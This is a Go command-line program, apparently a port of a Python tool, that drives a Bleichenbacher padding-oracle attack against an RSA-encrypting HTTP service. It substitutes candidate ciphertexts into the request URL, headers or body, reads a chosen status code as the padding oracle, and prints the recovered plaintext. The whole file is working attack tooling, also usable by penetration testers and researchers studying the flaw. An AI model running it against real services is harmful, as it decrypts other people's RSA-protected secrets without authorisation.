// Command httpbleach drives the Bleichenbacher attack engine against a
// padding oracle exposed over HTTP, substituting the candidate ciphertext
// into the request URL, headers, and/or body. Modeled on
// original_source/http_client.py: its flags (-url, -header, -post, -method,
// -no-proxy, -accept-status, -workers, -key) cover the URL, header and body
// templates and the proxy toggle. It has no short flag aliases and no
// iteration-count flag.
package main

import (
	"context"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"strings"

	"github.com/alexmgr/gobleach/bleach"
	"github.com/alexmgr/gobleach/numutils"
	"github.com/alexmgr/gobleach/oracle"
	"github.com/alexmgr/gobleach/rsakey"
)

type headerFlags map[string]string

func (h headerFlags) String() string { return fmt.Sprintf("%v", map[string]string(h)) }

func (h headerFlags) Set(kv string) error {
	k, v, ok := strings.Cut(kv, "=")
	if !ok {
		return fmt.Errorf("expected key=value, got %q", kv)
	}
	h[k] = v
	return nil
}

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	logger := slog.New(slog.NewTextHandler(os.Stderr, nil))

	fs := flag.NewFlagSet("httpbleach", flag.ContinueOnError)
	keyPath := fs.String("key", "", "path to the target's RSA public key (PEM)")
	url := fs.String("url", "", "oracle URL, with %c marking the ciphertext substitution point")
	method := fs.String("method", "GET", "HTTP method")
	body := fs.String("post", "", "POST body template")
	noProxy := fs.Bool("no-proxy", false, "ignore the environment-derived proxy")
	acceptStatus := fs.Int("accept-status", 200, "HTTP status code that indicates conforming padding")
	poolSize := fs.Int("workers", 0, "worker pool size (default: runtime.NumCPU())")
	headers := make(headerFlags)
	fs.Var(headers, "header", "key=value header template, may be repeated")
	if err := fs.Parse(args); err != nil {
		return 1
	}
	if fs.NArg() != 1 || *keyPath == "" || *url == "" {
		fmt.Fprintln(os.Stderr, "usage: httpbleach -key pub.pem -url ... [-method] [-post] [-header k=v] [-no-proxy] <hex-ciphertext>")
		return 1
	}
	hexCiphertext := fs.Arg(0)

	keyData, err := os.ReadFile(*keyPath)
	if err != nil {
		logger.Error("reading public key", "error", err)
		return 1
	}
	n, e, err := rsakey.ParsePublicKeyPEM(keyData)
	if err != nil {
		logger.Error("parsing public key", "error", err)
		return 1
	}

	c, err := numutils.ToIntError(hexCiphertext, "ciphertext")
	if err != nil {
		logger.Error("parsing ciphertext", "error", err)
		return 1
	}

	byteLen := (n.BitLen() + 7) / 8
	o := oracle.HTTPOracle{
		URL:     *url,
		Method:  *method,
		Headers: headers,
		Body:    *body,
		ByteLen: byteLen,
		NoProxy: *noProxy,
	}

	callback := func(r oracle.HTTPResult) bool { return r.StatusCode == *acceptStatus }

	opts := []bleach.Option{bleach.WithExponent(e)}
	if *poolSize > 0 {
		opts = append(opts, bleach.WithPoolSize(*poolSize))
	}

	engine, err := bleach.NewEngine[oracle.HTTPResult](n, o, callback, opts...)
	if err != nil {
		logger.Error("constructing engine", "error", err)
		return 1
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	logger.Info("starting search", "url", *url, "key_bits", n.BitLen())
	a, m, err := engine.RunSearch(ctx, c)
	if err != nil {
		logger.Error("search failed", "error", err)
		return 1
	}

	logger.Info("search complete", "a", a.Text(16))
	fmt.Printf("%x\n", m)
	return 0
}
